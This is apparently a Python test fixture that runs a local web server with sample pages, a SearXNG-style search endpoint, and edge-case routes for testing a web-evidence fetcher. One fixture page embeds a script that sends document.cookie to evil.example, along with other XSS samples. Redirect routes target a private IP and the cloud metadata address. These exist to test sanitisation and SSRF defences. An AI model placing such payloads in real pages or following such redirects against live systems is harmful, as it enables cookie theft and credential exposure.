"""A local web for the web-evidence tests: fixture pages and a SearXNG-style JSON endpoint on 127.0.0.1.

Nothing here talks to anything but 127.0.0.1. ``WebFixture.hits`` counts requests per path so tests
can tell a cache hit from a fetch.
"""
from __future__ import annotations

import json
import threading
import time
from collections import Counter
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

EIFFEL = """<!DOCTYPE html><html><head><title>Eiffel Tower facts</title>
<meta name="date" content="2021-03-04"><meta property="og:title" content="Eiffel Tower facts"></head>
<body><nav><a href="/">Home</a> | <a href="/shop">Shop our souvenir catalogue now</a> | Sign up for the newsletter</nav>
<header>Menu Login Register Search this website for more great content</header>
<article><h1>Eiffel Tower facts</h1>
<p>The Eiffel Tower is a wrought-iron lattice tower on the Champ de Mars in Paris, France.</p>
<p>The Eiffel Tower was completed in 1889 as the entrance arch to the World's Fair.</p>
<p>The tower is 330 metres tall and was the tallest man-made structure in the world for 41 years.
<script>document.location='http://evil.example/steal?c='+document.cookie</script>
It is named after the engineer Gustave Eiffel, whose company designed and built the tower.</p>
<p>Some visitors type &lt;script&gt;alert("owned")&lt;/script&gt; into the <b>guest book</b> of the tower museum.</p>
<p onclick="alert(1)">The tower receives about seven million visitors every year from around the world.</p>
</article>
<footer>Copyright 2024 Example Travel Corp. All rights reserved. Privacy policy. Cookie settings. Terms of use.</footer>
</body></html>"""

CURIE = """<html><head><title>Marie Curie biography</title></head><body>
<div class="menu">Home About Contact Donate to our foundation today</div>
<main><h1>Marie Curie</h1>
<p>Marie Curie was a Polish and naturalised-French physicist and chemist who conducted pioneering research on radioactivity.</p>
<p>Marie Curie won the Nobel Prize in Physics in 1903 together with Pierre Curie and Henri Becquerel.</p>
<p>She won a second Nobel Prize, in Chemistry, in 1911 for the discovery of polonium and radium.</p>
</main></body></html>"""

PLAIN = "The Eiffel Tower is repainted every seven years to protect it from rust.\nIt takes about sixty tonnes of paint."


class WebFixture:
    """Start with ``WebFixture().start()``; ``base`` is "http://127.0.0.1:<port>"; ``stop()`` shuts it."""

    def __init__(self, huge_bytes: int = 300_000, slow_seconds: float = 2.0, host_name: str = "127.0.0.1"):
        self.huge_bytes = huge_bytes
        self.slow_seconds = slow_seconds
        self.host_name = host_name  # the host written into search results (127.0.0.1 or localhost)
        self.hits: Counter = Counter()
        self.lock = threading.Lock()
        self.server = None
        self.thread = None

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    @property
    def port(self) -> int:
        return self.server.server_address[1]

    def url(self, path: str, host: str | None = None) -> str:
        return f"http://{host or self.host_name}:{self.port}{path}"

    def search_results(self, query: str) -> list[dict]:
        q = query.casefold()
        results = []
        if "eiffel" in q or "tower" in q:
            results += [
                {"url": self.url("/page/eiffel"), "title": "Eiffel Tower facts",
                 "content": "The <span class=\"highlight\">Eiffel Tower</span> was completed in 1889 for the World's Fair."},
                {"url": self.url("/plain/paint"), "title": "Painting the tower",
                 "content": "The tower is repainted every seven years."},
                {"url": self.url("/binary"), "title": "Tower photo", "content": "A photo of the tower at night."},
                {"url": self.url("/slow"), "title": "Slow page", "content": "short"},
            ]
        if "curie" in q or "nobel" in q:
            results += [{"url": self.url("/page/curie"), "title": "Marie Curie biography",
                         "content": "Marie Curie won the Nobel Prize in Physics in 1903 with Pierre Curie."}]
        results.append({"url": "ftp://files.example/x", "title": "not web", "content": "never fetched at all"})
        return results

    def start(self) -> "WebFixture":
        fixture = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _send(self, status, body: bytes, content_type="text/html; charset=utf-8", length=True, headers=()):
                self.send_response(status)
                self.send_header("Content-Type", content_type)
                for name, value in headers:
                    self.send_header(name, value)
                if length:
                    self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                try:
                    self.wfile.write(body)
                except (BrokenPipeError, ConnectionResetError):
                    pass

            def do_GET(self):
                parts = urlsplit(self.path)
                with fixture.lock:
                    fixture.hits[parts.path] += 1
                path = parts.path
                if path == "/search":
                    query = parse_qs(parts.query).get("q", [""])[0]
                    if parse_qs(parts.query).get("format", [""])[0] != "json":
                        return self._send(403, b"json only")
                    body = json.dumps({"query": query, "results": fixture.search_results(query)}).encode()
                    return self._send(200, body, "application/json")
                if path == "/forbidden/search":
                    return self._send(403, b"<html>format disabled</html>")
                if path == "/notjson/search":
                    return self._send(200, b"<html>not json</html>")
                if path == "/page/eiffel":
                    return self._send(200, EIFFEL.encode())
                if path == "/page/curie":
                    return self._send(200, CURIE.encode())
                if path == "/plain/paint":
                    return self._send(200, PLAIN.encode(), "text/plain; charset=utf-8")
                if path == "/binary":
                    return self._send(200, b"\x89PNG\r\n\x1a\n" + bytes(200), "image/png")
                if path == "/huge":  # no Content-Length: only the streamed cap can stop it
                    filler = ("<p>" + "lorem ipsum dolor sit amet " * 40 + "</p>\n").encode()
                    body = b"<html><body>" + filler * (fixture.huge_bytes // len(filler) + 1) + b"</body></html>"
                    return self._send(200, body, length=False)
                if path == "/huge-declared":
                    return self._send(200, b"x" * fixture.huge_bytes)
                if path == "/slow":
                    time.sleep(fixture.slow_seconds)
                    return self._send(200, EIFFEL.encode())
                if path == "/redirect/private":
                    return self._send(302, b"", headers=[("Location", "http://10.1.2.3/secret")])
                if path == "/redirect/metadata":
                    return self._send(302, b"", headers=[("Location", "http://169.254.169.254/latest/meta-data/")])
                if path == "/redirect/ok":
                    return self._send(301, b"", headers=[("Location", "/page/eiffel")])
                if path == "/redirect/loop":
                    return self._send(302, b"", headers=[("Location", "/redirect/loop")])
                return self._send(404, b"not found")

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()
        return self

    def stop(self) -> None:
        if self.server:
            self.server.shutdown()
            self.server.server_close()
